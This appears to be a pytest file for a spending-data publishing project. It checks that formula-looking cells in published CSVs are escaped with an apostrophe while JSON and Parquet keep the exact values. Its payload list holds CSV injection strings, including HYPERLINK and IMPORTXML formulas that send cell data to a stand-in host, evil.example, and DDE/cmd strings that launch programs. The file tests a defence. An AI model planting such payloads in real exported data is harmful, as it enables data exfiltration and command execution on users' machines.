"""Published CSVs hold no cell a spreadsheet would run as a formula; JSON and Parquet keep the exact values.

A spend return whose suppliers and descriptions are formulas (OWASP's CSV injection
payloads) goes through real ingest and the real build; the published files are read back.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import shutil
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from opcc.batch import ingest_paths
from opcc.core.settings import load_settings
from opcc.site.csv_cells import neutralise
from opcc.store import Store

REPO = Path(__file__).resolve().parent.parent
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
            "=DDE(\"cmd\";\"/C calc\";\"x\")", '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")', "-2+3+cmd|x"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    from opcc.site.build import build_site

    root = tmp_path_factory.mktemp("csv") / "project"
    root.mkdir()
    shutil.copyfile(REPO / "opcc.yml", root / "opcc.yml")
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Date", "Supplier", "Description", "Expense Type", "Transaction No", "Amount"])
    for n, payload in enumerate(PAYLOADS):
        writer.writerow([f"0{n + 1}/05/2019", f"Acme {n} Ltd", payload, "Services", f"7700{n}", "£1,200.00"])
    writer.writerow(["09/05/2019", PAYLOADS[0], "\t=1+1", "Services", "77009", "-612.40"])
    (root / "kent_pcc_2019_05.csv").write_text(out.getvalue(), encoding="utf-8")
    settings = load_settings(root / "opcc.yml")
    [outcome] = ingest_paths([root / "kent_pcc_2019_05.csv"], Store(settings), jobs=1, progress=False)
    assert outcome.status == "new", outcome.reason
    build_site(settings)
    return settings


def published_csvs(site: Path) -> dict[str, list[list[str]]]:
    found = {}
    for path in sorted(site.rglob("*.csv*")):
        data = path.read_bytes()
        text = (gzip.decompress(data) if data.startswith(b"\x1f\x8b") else data).decode("utf-8")
        found[str(path.relative_to(site))] = list(csv.reader(io.StringIO(text)))
    return found


def test_no_published_csv_cell_starts_a_formula_except_plain_numbers(built):
    tables = published_csvs(built.site_dir)
    assert {"data/spend/spend.csv.gz", "data/spend/spend-lga.csv.gz", "data/spend/months/2019-05.csv",
            "data/decisions.csv"} <= set(tables)
    cells = [cell for rows in tables.values() for row in rows for cell in row]
    risky = [c for c in cells if c.startswith(TRIGGERS) and neutralise(c) != c]
    assert risky == []
    assert "-612.40" in cells  # a negative amount stays a number
    assert any(c.startswith("'=HYPERLINK(") for c in cells) and any(c.startswith("'+cmd|") for c in cells)
    assert any(c.startswith("'@SUM") for c in cells) and any(c.startswith("'=DDE(") for c in cells)


def test_a_source_s_own_neutralised_tab_does_not_come_back_as_a_formula(built):
    cells = {cell for rows in published_csvs(built.site_dir).values() for row in rows for cell in row}
    assert "=1+1" not in cells and "'=1+1" in cells


def test_json_and_parquet_keep_the_exact_values_and_the_data_package_says_so(built):
    site = built.site_dir
    month = json.loads((site / "data" / "spend" / "months" / "2019-05.json").read_text())
    assert PAYLOADS[1] in json.dumps(month, ensure_ascii=False)
    parquet = pq.read_table(site / "data" / "spend" / "spend.parquet").column("description").to_pylist()
    assert PAYLOADS[1] in parquet and "'" + PAYLOADS[1] not in parquet
    package = json.loads((site / "datapackage.json").read_text())
    notes = [r.get("description", "") for r in package["resources"] if r.get("format") == "csv"]
    assert notes and all("JSON and Parquet files hold the exact values" in note for note in notes)


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+44 1622 677055", "'+44 1622 677055"), ("@foo", "'@foo"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("-125.00", "-125.00"), ("+3", "+3"), ("-1,250.50", "-1,250.50"), ("Acme", "Acme"),
    ("- a dash", "'- a dash"),
])
def test_one_cell(cell, written):
    assert neutralise(cell) == written
